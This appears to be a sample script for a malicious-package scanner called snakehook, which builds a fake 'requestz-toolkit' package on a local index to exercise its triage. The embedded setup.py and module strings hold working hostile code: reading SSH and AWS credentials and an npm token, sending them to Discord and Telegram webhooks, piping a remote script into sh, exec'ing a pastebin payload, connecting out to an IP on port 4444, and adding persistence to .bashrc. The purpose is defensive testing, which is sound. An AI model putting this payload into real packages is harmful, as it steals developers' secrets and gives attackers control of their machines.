"""Triage the package of README.md's sample: it does what bad packages do, and harms nobody.

    python tests/sample.py [PAGE.html]

A script, not a test: it prints the report, and writes its page where one is named. The package is
made here, served by an index on this machine's loopback, and what it sends is taken by the decoy
internet; its keys are bait. The environment goes through to snakehook (STATE_DIR, ...).
"""

import os
import subprocess
import sys
from pathlib import Path

from standins import Index

PROGRAM = Path(__file__).resolve().parent.parent / "snakehook.py"
NAME, VERSION = "requestz-toolkit", "2.1.0"
SETUP = """
import os
from setuptools import setup
key = os.path.expanduser("~/.ssh/id_rsa")
if os.path.exists(key):
    open(key).read()
os.system("curl -fsSL https://cdn.requestz-tools.xyz/install.sh | sh")
setup(name="requestz-toolkit", version="2.1.0", py_modules=["requestz"])
"""
THEFT = """
import base64, io, os, socket, zipfile
from urllib.request import urlopen
def collect():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.write(os.path.expanduser("~/.aws/credentials"), "aws")
        archive.writestr("npm", os.environ["NPM_TOKEN"])
    return file.getvalue()
urlopen("https://discord.com/api/webhooks/1290017266543/Zr0nTq-Kp3", collect())
urlopen("https://api.telegram.org/bot7211:AAH-k3/sendMessage?chat_id=99", b"text=new+victim")
exec(base64.b64decode(urlopen("https://pastebin.com/raw/Qm3xT9vd").read()))
with socket.create_connection(("45.9.148.3", 4444), timeout=5) as shell:
    shell.sendall(b"id=" + os.uname().nodename.encode())
with open(os.path.expanduser("~/.bashrc"), "a") as file:
    file.write("\\npython3 -m requestz &\\n")
"""


def main() -> int:
    """The exit code of snakehook: 1, since something high was found."""
    with Index() as index:
        index.add_wheel("pip", "1.0", {"pip_stand_in.py": ""})
        files = {"setup.py": SETUP, "requestz.py": THEFT}
        index.add_sdist(NAME, VERSION, files)
        command = [sys.executable, str(PROGRAM), "triage", NAME, VERSION, "--mode", "import"]
        command += [f"--html={page}" for page in sys.argv[1:]]
        environment = os.environ | {"PIP_INDEX_URL": index.url}
        return subprocess.run(command, env=environment).returncode


if __name__ == "__main__":
    sys.exit(main())
